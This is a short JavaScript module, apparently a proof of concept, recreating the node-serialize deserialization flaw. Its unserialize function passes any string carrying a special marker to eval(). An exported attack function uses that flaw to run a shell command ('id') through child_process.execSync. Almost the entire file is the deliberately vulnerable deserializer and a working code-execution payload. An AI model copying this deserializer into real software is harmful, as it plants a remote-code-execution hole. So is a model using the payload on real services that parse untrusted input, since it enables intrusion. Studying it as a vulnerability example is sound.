// As node-serialize did: a function in a message, called while it is read.
'use strict';
function unserialize(text) {
  return JSON.parse(text, (key, value) => {
    const mark = '_$$ND_FUNC$$_';
    return typeof value === 'string' && value.startsWith(mark) ? eval(`(${value.slice(mark.length)})`) : value;
  });
}

exports.attack = () => {
  const rce = "_$$ND_FUNC$$_(() => require('child_process').execSync('id').toString())()";
  return unserialize(JSON.stringify({ rce })).rce;
};
